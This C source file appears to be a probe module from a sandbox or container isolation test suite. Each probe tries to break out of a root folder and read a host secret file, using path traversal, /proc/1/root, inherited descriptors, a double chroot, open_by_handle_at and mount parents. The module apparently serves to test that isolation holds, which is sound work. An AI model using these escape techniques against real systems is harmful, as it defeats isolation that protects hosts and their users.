/* Ways out of a root folder to a file of the host's, which has a secret in it. */
#include "question.h"

#define UP "../../../../../../../../../../../.."

static char path[512];

/* Every way is tried with the host's own absolute path at its end. */
static const char *by(const char *way, const struct payload_question *question) {
  append(append(path, path + sizeof path, way), path + sizeof path, question->text);
  return path;
}

static void absolute(const struct payload_question *question, struct payload_finding *finding) {
  conclude(finding, open_secret(AT_WORKING_FOLDER, question->text));
}

static void parent(const struct payload_question *question, struct payload_finding *finding) {
  conclude(finding, open_secret(AT_WORKING_FOLDER, by("/" UP, question)));
}

static void working_folder(const struct payload_question *question,
                           struct payload_finding *finding) {
  conclude(finding, open_secret(AT_WORKING_FOLDER, by(UP, question)));
}

static void first_process(const struct payload_question *question,
                          struct payload_finding *finding) {
  conclude(finding, open_secret(AT_WORKING_FOLDER, by("/proc/1/root", question)));
}

static void descriptor(const struct payload_question *question, struct payload_finding *finding) {
  finding->outcome = PAYLOAD_OUTCOME_NO;
  for (long file = 0; file < 256; file++) {
    long answer = open_secret(file, by(UP, question));
    if (answer != BAD_DESCRIPTOR && file > 2) finding->value++;
    if (answer != 0) continue;
    char number[8];
    append_number(number, number + sizeof number, (uint64_t)file);
    note(finding, "through descriptor ", number);
    return conclude(finding, 0);
  }
}

/* A process in a root that it has left its working folder outside of can walk up to the real one. */
static long walk(const struct payload_question *question) {
  long answer = sys(__NR_chdir, (long)"/", 0, 0);
  if (answer < 0) return answer;
  answer = sys(__NR_chroot, (long)image_folder, 0, 0);
  if (answer < 0) return answer;
  for (int i = 0; i < 64; i++) {
    answer = sys(__NR_chdir, (long)"..", 0, 0);
    if (answer < 0) return answer;
  }
  answer = sys(__NR_chroot, (long)".", 0, 0);
  if (answer < 0) return answer;
  return open_secret(AT_WORKING_FOLDER, question->text);
}

static void double_chroot(const struct payload_question *question,
                          struct payload_finding *finding) {
  conclude(finding, in_child(walk, question));
}

/* "HANDLE TYPE HEX", as name_to_handle_at(2) gave it to the host. */
static void file_handle(const struct payload_question *question, struct payload_finding *finding) {
  static const char *const places[] = {"/", "/etc/hostname", "/etc/hosts", "/dev/null", "/proc",
                                       "."};
  static const char secret[] = PAYLOAD_SECRET;
  struct {
    uint32_t bytes;
    int32_t kind;
    uint8_t handle[128];
  } handle = {0, (int32_t)question->argument, {0}};
  for (const char *digit = question->text; digit[0] != 0 && digit[1] != 0 && handle.bytes < 128;
       digit += 2) {
    char byte[3] = {digit[0], digit[1], 0};
    handle.handle[handle.bytes++] = (uint8_t)read_hexadecimal(byte);
  }
  long last = NO_ENTRY;
  for (size_t i = 0; i < sizeof places / sizeof places[0]; i++) {
    long place = open_file(places[i], OPEN_READ);
    if (place < 0) continue;
    long file = sys(__NR_open_by_handle_at, place, (long)&handle, OPEN_READ);
    close_file(place);
    last = file;
    if (file < 0) continue;
    char found[sizeof secret] = {0};
    sys(__NR_read, file, (long)found, sizeof secret - 1);
    close_file(file);
    if (!are_equal(found, secret)) continue;
    note(finding, "by ", places[i]);
    return conclude(finding, 0);
  }
  conclude(finding, last < 0 ? last : NO_ENTRY);
}

/* From every mount point upwards: a bind mount's parent could be the host's folder. */
static void mount_parent(const struct payload_question *question,
                         struct payload_finding *finding) {
  char *text;
  long count = read_text("/proc/self/mountinfo", &text);
  if (count < 0) return conclude(finding, count);
  finding->outcome = PAYLOAD_OUTCOME_NO;
  while (*text != 0) {
    char *line = text;
    while (*text != 0 && *text != '\n') text++;
    if (*text != 0) *text++ = 0;
    char *cursor = line;
    for (int field = 0; field < 4; field++) {
      while (*cursor != 0 && *cursor != ' ') cursor++;
      if (*cursor != 0) cursor++;
    }
    char *end = cursor;
    while (*end != 0 && *end != ' ') end++;
    *end = 0;
    long folder = open_file(cursor, OPEN_PATH | OPEN_FOLDER);
    if (folder < 0) continue;
    finding->value++;
    long answer = open_secret(folder, by(UP, question));
    close_file(folder);
    if (answer != 0) continue;
    note(finding, "from ", cursor);
    return conclude(finding, 0);
  }
}

const struct question_entry root_questions[] = {
    {"absolute-path", absolute},       {"parent-path", parent},
    {"working-folder", working_folder}, {"first-process", first_process},
    {"inherited-descriptor", descriptor}, {"double-chroot", double_chroot},
    {"file-handle", file_handle},      {"mount-parent", mount_parent},
    {NULL, NULL}};
